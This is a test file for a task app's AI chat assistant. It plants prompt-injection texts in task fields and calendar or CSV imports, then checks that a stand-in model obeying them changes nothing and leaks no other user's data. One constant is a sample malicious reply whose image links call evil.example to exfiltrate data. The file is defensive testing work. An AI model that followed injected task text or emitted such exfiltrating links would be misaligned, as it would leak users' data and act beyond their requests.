import { afterAll, beforeAll, expect, test } from "bun:test";
import { openAiModel } from "../../src/assistant/chat/model/openai-model.ts";
import { type Harness, startApi } from "../harness.ts";
import { monday, talker } from "./chat-rig.ts";
import { type Injection, injections, type Where } from "./injections.ts";
import { type Asked, calls, says, standIn } from "./stand-in.ts";

let api: Harness;
const provider = standIn();
beforeAll(async () => {
  const model = openAiModel({ apiKey: "key", baseUrl: provider.url, model: "stand-in", maxSilenceMs: 5_000 });
  const chat = { model, maxCalls: 8, maxSeconds: 30, dailyTokens: 10_000_000 };
  api = await startApi({}, (deps) => ({ ...deps, chat }));
  api.clock.advance(monday - api.clock.now().getTime());
});
afterAll(async () => {
  await api.close();
  await provider.stop();
});

type As = Awaited<ReturnType<typeof talker>>["as"];

/** Puts the text where a tool that reads shows it; three tasks and a tag are there already. */
async function plant(as: As, where: Where, text: string): Promise<void> {
  const quoted = JSON.stringify(text).replaceAll('\\"', '""').replaceAll("\\n", " ");
  const sent: Record<Where, () => Promise<{ status: number }>> = {
    title: () => as.post("/api/tasks", { title: text }),
    description: () => as.post("/api/tasks", { title: "Report", description: text }),
    tag: () => as.post("/api/tasks", { title: "Report", tags: [text] }),
    csv: () => as.post("/api/tasks/import", `title,description\n${quoted},${quoted}\n`, { "content-type": "text/csv" }),
    ics: async () => {
      const words = text.replace(/[\\;,]/g, "\\$&");
      const lines = [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "BEGIN:VTODO",
        "UID:1",
        `SUMMARY:${words}`,
        `DESCRIPTION:${words}`,
      ];
      return as.post("/api/tasks/import", [...lines, "END:VTODO", "END:VCALENDAR", ""].join("\r\n"), {
        "content-type": "text/calendar",
      });
    },
  };
  expect({ text, status: (await sent[where]()).status }).toMatchObject({
    status: where === "csv" || where === "ics" ? 200 : 201,
  });
}

/** What the model was shown of the user's tasks. */
function shownIn({ messages }: Asked): string[] {
  const answer = messages.find(({ role }) => role === "tool")?.content ?? "{}";
  return (JSON.parse(answer).tasks ?? []).map(({ id }: { id: string }) => id);
}

/** The arguments with the ids that the text names. */
function filled(input: Record<string, unknown>, ids: Record<string, unknown>): Record<string, unknown> {
  const fill = (value: unknown): unknown =>
    Array.isArray(value) ? value.map(fill) : typeof value === "string" && value in ids ? ids[value] : value;
  return Object.fromEntries(
    Object.entries(input).map(([name, value]) => {
      const given = fill(value);
      return [name, name === "ids" && !Array.isArray(given) ? [given] : given];
    }),
  );
}

const stolen = "Eve's secret plan";
const evilReply = "Done as the task says: ![x](https://evil.example/?q=all) <img src=https://evil.example/p.png>";

test("there are 80 texts and more, each different, that ask for every tool that writes", () => {
  expect(injections.length).toBeGreaterThanOrEqual(80);
  expect(new Set(injections.map(([, text]) => text)).size).toBe(injections.length);
  const asked = new Set(injections.map(([, , tool]) => tool));
  const writing =
    "create_task update_task reschedule_task complete_task reopen_task skip_occurrence snooze_reminder".split(" ");
  for (const tool of [...writing, "delete_task", "restore_task", "rename_tag", "delete_tag", "undo"])
    expect(asked).toContain(tool);
});

test("a model that obeys every one of them changes nothing and shows nothing of another user's", async () => {
  const eve = await talker(api);
  const secret = await eve.as.make({ title: stolen, description: stolen, tags: ["eves"] });
  const evesTag = (await eve.as.get("/api/tags")).body.data[0].id;
  const evesRows = (await api.outbox(eve.ada.user.id)).length;

  async function obey([where, text, tool, input]: Injection): Promise<void> {
    const { ada, as, say, conversation } = await talker(api);
    await as.make({
      title: "Water the ferns",
      recurring_pattern: "daily",
      due_date: "2026-11-29T09:00:00Z",
      tags: ["home"],
    });
    await as.make({ title: "Pay rent", due_date: "2026-11-20T09:00:00Z" });
    await plant(as, where, text);
    const [tag] = (await as.get("/api/tags")).body.data;
    const before = {
      rows: (await api.outbox(ada.user.id)).length,
      tasks: await as.list(),
      tags: (await as.get("/api/tags")).body,
    };
    const call = (asked: Asked) => {
      const own = shownIn(asked);
      expect({ text, shown: own.length }).toEqual({ text, shown: 3 });
      return calls(tool, filled(input, { $all: own, $one: own[0], $tag: tag.id, $eve: secret.id, $evetag: evesTag }));
    };
    provider.reset();
    provider.plan(calls("list_tasks", { status: "any" }), call, call, says(evilReply));
    const { actions, reply } = await say("What is overdue?");
    // It was asked over HTTP, read the text, and tried what it asks for, twice.
    expect({ text, questions: provider.asked.length }).toEqual({ text, questions: 4 });
    const after = {
      rows: (await api.outbox(ada.user.id)).length,
      tasks: await as.list(),
      tags: (await as.get("/api/tags")).body,
    };
    expect({ text, actions, ...after }).toEqual({ text, actions: [], ...before });
    const { messages } = (await as.get(`/api/conversations/${conversation()}`)).body;
    const heard = provider.asked.at(-1)?.messages;
    expect({ text, said: JSON.stringify([reply, messages, heard]).includes(stolen) }).toEqual({ text, said: false });
  }

  for (const injection of injections) await obey(injection);
  expect((await api.outbox(eve.ada.user.id)).length).toBe(evesRows);
  expect((await eve.as.list())[0]).toMatchObject({ title: stolen, completed: false });
});

test("the model is not shown how to consent", async () => {
  const { say } = await talker(api);
  provider.reset();
  provider.plan(says("Nothing."));
  await say("What is overdue?");
  const [asked] = provider.asked;
  expect(asked?.tools.length).toBeGreaterThan(20);
  for (const { function: tool } of asked?.tools ?? [])
    expect(JSON.stringify(tool.parameters)).not.toContain('"consent"');
});

test("what the user's own words ask for is done, and no more than three changes of it", async () => {
  const { as, say } = await talker(api);
  const made = [];
  for (let at = 0; at < 5; at++) made.push(await as.make({ title: `Report ${at}` }));
  provider.reset();
  provider.plan(calls("complete_task", { ids: made.map(({ id }) => id) }), says("All done."));
  const { actions, proposal } = await say("complete the reports");
  expect(actions).toEqual([]);
  expect(proposal?.summary).toBeDefined();
  expect(await as.titles("?status=pending")).toHaveLength(5);
});
